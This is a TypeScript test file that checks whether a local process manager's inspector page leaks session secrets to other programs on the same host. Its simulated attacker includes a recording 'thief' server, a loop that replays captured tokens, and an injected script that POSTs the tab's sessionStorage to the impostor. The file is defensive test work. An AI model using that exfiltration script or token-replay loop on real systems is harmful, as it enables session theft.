import { spawn } from "node:child_process";
import { createServer, request, type IncomingMessage, type Server } from "node:http";
import { text } from "node:stream/consumers";
import { readdirSync, readFileSync, readlinkSync } from "node:fs";
import { expect, onTestFinished, test } from "vitest";
import { openPage } from "../support/browser.ts";
import { until } from "../support/condition.ts";
import { testHome } from "../support/home.ts";
import { openInspector } from "../support/inspector.ts";
import { program } from "../support/programs.ts";

interface Loot {
  readonly url: string;
  readonly headers: IncomingMessage["headers"];
  readonly body: string;
}

/** Another program that listens, and notes all that it is sent. */
async function thief(
  port: number,
  answer: (asked: Loot) => string = () => "{}",
): Promise<{ port: number; loot: Loot[]; server: Server }> {
  const loot: Loot[] = [];
  const server = createServer((asked, response) => {
    void text(asked).then((body) => {
      const got = { url: asked.url ?? "", headers: asked.headers, body };
      loot.push(got);
      const type = asked.url?.startsWith("/at/") === true ? "text/html" : "application/json";
      response.setHeader("content-type", type).end(answer(got));
    });
  });
  await until(
    "the port",
    () =>
      new Promise<boolean>((resolve) => {
        server.once("error", () => resolve(false));
        server.listen(port, "127.0.0.1", () => resolve(true));
      }),
  );
  onTestFinished(() => {
    server.closeAllConnections();
    server.close();
  });
  return { port: (server.address() as { port: number }).port, loot, server };
}

/** Every secret-like word that a thief was sent, tried at God in every way that God takes one. */
async function tryAll(port: number, loot: readonly Loot[]): Promise<number[]> {
  const words = new Set(
    loot.flatMap(({ url, headers, body }) =>
      [...JSON.stringify([url, headers, body]).matchAll(/[\w-]{12,}/g)].map(([word]) => word),
    ),
  );
  const statuses: number[] = [];
  for (const word of words) {
    const session = loot.find(({ body }) => body.includes(word))?.body ?? "{}";
    for (const [path, headers, body] of [
      ["/v1/ping", { authorization: `Bearer ${word}` }, undefined],
      ["/inspector/enter", {}, JSON.stringify({ token: word })],
      ["/inspector/session", {}, session],
    ] as const) {
      statuses.push(await statusOf(port, path, headers, body));
    }
  }
  return statuses.filter((status) => status < 400);
}

function statusOf(
  port: number,
  path: string,
  headers: Readonly<Record<string, string>>,
  body: string | undefined,
): Promise<number> {
  const method = body === undefined ? "GET" : "POST";
  return new Promise((resolve, reject) => {
    const options = { host: "127.0.0.1", port, path, method, headers, agent: false };
    const sent = request(options, (answer) => {
      answer.resume();
      resolve(answer.statusCode ?? 0);
    });
    sent.on("error", reject);
    sent.end(body);
  });
}

test("a server on another port of the host is sent nothing that God takes", async () => {
  const home = testHome();
  await home.ok("start", program("stays.js"), "--name", "s");
  const { page } = await openPage(home, { control: true });
  await page.getByText("● live", { exact: true }).waitFor();
  const { port } = await home.client().inspector();
  expect(await page.context().cookies()).toEqual([]);
  const other = await thief(0, () => "<p>another app</p>");
  const second = await page.context().newPage();
  await second.goto(`http://127.0.0.1:${other.port}/`);
  await second.goto(`http://localhost:${other.port}/`);
  await page.evaluate(
    (url) => fetch(url, { mode: "no-cors", credentials: "include" }).catch(() => undefined),
    `http://127.0.0.1:${other.port}/again`,
  );
  // The page's own policy lets nothing out; what the browser sent by itself holds no secret.
  expect(other.loot.length).toBeGreaterThanOrEqual(2);
  expect(other.loot.filter(({ headers }) => headers.cookie ?? headers.authorization)).toEqual([]);
  expect(await tryAll(port ?? 0, other.loot)).toEqual([]);
  // Nor does the other origin see what the page keeps.
  expect(await second.evaluate(() => JSON.stringify(sessionStorage))).toBe("{}");
});

test("God's port is not free for an instant when God dies, and an open page goes on", async () => {
  const home = testHome();
  await home.ok("start", program("stays.js"), "--name", "s");
  const { page } = await openPage(home, { control: true });
  await page.getByText("● live", { exact: true }).waitFor();
  const { port } = await home.client().inspector();
  // A program that tries to listen there all the time: it prints when it could.
  const script = `
    const { createServer } = require("node:net");
    const go = () => createServer().on("error", () => setTimeout(go, 2)).listen(${port}, "127.0.0.1", () => console.log("taken"));
    go(); console.log("trying");`;
  const grabber = spawn(process.execPath, ["-e", script], { stdio: ["ignore", "pipe", "inherit"] });
  onTestFinished(() => void grabber.kill("SIGKILL"));
  let said = "";
  grabber.stdout.setEncoding("utf8").on("data", (chunk: string) => (said += chunk));
  await until("it to try", () => said.includes("trying"));
  for (let death = 0; death < 3; death += 1) {
    const god = home.godPid();
    process.kill(god, "SIGKILL");
    const next = await home.nextGod(god);
    await page.getByText(`pid ${next}`, { exact: true }).waitFor({ timeout: 20_000 });
    await page.getByText("● live", { exact: true }).waitFor();
  }
  expect(said).toBe("trying\n");
  // The next page that is loaded, and a command of it, work as before.
  await page.reload();
  const { pid } = await home.process("s");
  await page.getByRole("button", { name: "Restart" }).click();
  await until("the restart", async () => (await home.process("s")).pid !== pid);
  // The socket is God's and the watchdog's alone: no app has it.
  const inode = inodeOfPort(port ?? 0);
  const app = await home.process("s");
  expect(descriptorsOf(app.pid ?? 0)).not.toContain(`socket:[${inode}]`);
  await home.ok("inspect", "--stop");
  // Only now is the port anybody's.
  await until("the port to be taken", () => said.includes("taken"));
});

test("whoever takes the port while neither God nor its watchdog lives gets nothing that God takes", async () => {
  const home = testHome({ env: { XM_WATCHDOG: "off" } });
  await home.ok("start", program("stays.js"), "--name", "s");
  const { page } = await openPage(home, { control: true });
  const { page: reloaded } = await openPage(home, { control: true });
  const program2 = await openInspector(home, "--control");
  const script = await openInspector(home);
  await page.getByText("● live", { exact: true }).waitFor();
  await reloaded.getByText("● live", { exact: true }).waitFor();
  const { port } = program2;
  process.kill(home.godPid(), "SIGKILL");
  // It answers as God would, and its page sends all that the tab keeps.
  const stealing = `<script>fetch("/stolen", { method: "POST", body: JSON.stringify(sessionStorage) })</script>`;
  const { loot, server } = await thief(port, ({ url }) =>
    url.startsWith("/at/")
      ? stealing
      : JSON.stringify({ challenge: "x", ticket: "t", proof: "p", lastSeq: 0 }),
  );
  await until("the page to ask it", () => loot.some(({ url }) => url === "/inspector/session"));
  await page.getByText("Another program answers at this address").waitFor();
  await reloaded.reload();
  await until("its page to send what is kept", () => loot.some(({ url }) => url === "/stolen"));
  const stolen = JSON.parse(loot.find(({ url }) => url === "/stolen")?.body ?? "{}") as {
    "xm-inspector"?: string;
  };
  const kept = JSON.parse(stolen["xm-inspector"] ?? "{}") as { id?: string; secret?: string };
  expect(kept.secret).toMatch(/^[\w-]{43}$/);
  server.closeAllConnections();
  await new Promise((resolve) => {
    server.close(resolve);
  });

  await home.ok("ls");
  await until("God to listen again", async () => (await home.client().inspector()).port === port);
  expect(await tryAll(port, loot)).toEqual([]);
  // What the reloaded tab kept opens nothing, used as it is meant to be used either.
  await reloaded.reload();
  await reloaded.getByText("this session has ended").waitFor();
  const bearer = { headers: { authorization: `Bearer ${program2.token}` } };
  expect((await program2.knock("/v1/ping", bearer)).status).toBe(403);
  // A script that only looks keeps its token.
  expect((await script.ask("/v1/ping")).status).toBe(200);
  // The page that has lived through it continues, and may be reloaded again.
  await page.getByText("● live", { exact: true }).waitFor({ timeout: 20_000 });
  await page.reload();
  await page.getByText("● live", { exact: true }).waitFor({ timeout: 20_000 });
});

test("the page is not given under localhost, which may be another program's ::1", async () => {
  const home = testHome();
  const inspector = await openInspector(home);
  const { port, url } = inspector;
  const { pathname } = new URL(url);
  const moved = await inspector.knock(pathname, { headers: { host: `localhost:${port}` } });
  expect([moved.status, moved.headers.location]).toEqual([
    308,
    `http://127.0.0.1:${port}${pathname}`,
  ]);
});

function inodeOfPort(port: number): string {
  const hex = port.toString(16).toUpperCase().padStart(4, "0");
  const line = readFileSync("/proc/net/tcp", "utf8")
    .split("\n")
    .find((each) => each.includes(`0100007F:${hex} 00000000:0000 0A`));
  return line?.trim().split(/\s+/)[9] ?? "none";
}

function descriptorsOf(pid: number): string[] {
  const folder = `/proc/${pid}/fd`;
  return readdirSync(folder).map((fd) => {
    try {
      return readlinkSync(`${folder}/${fd}`);
    } catch {
      return "";
    }
  });
}
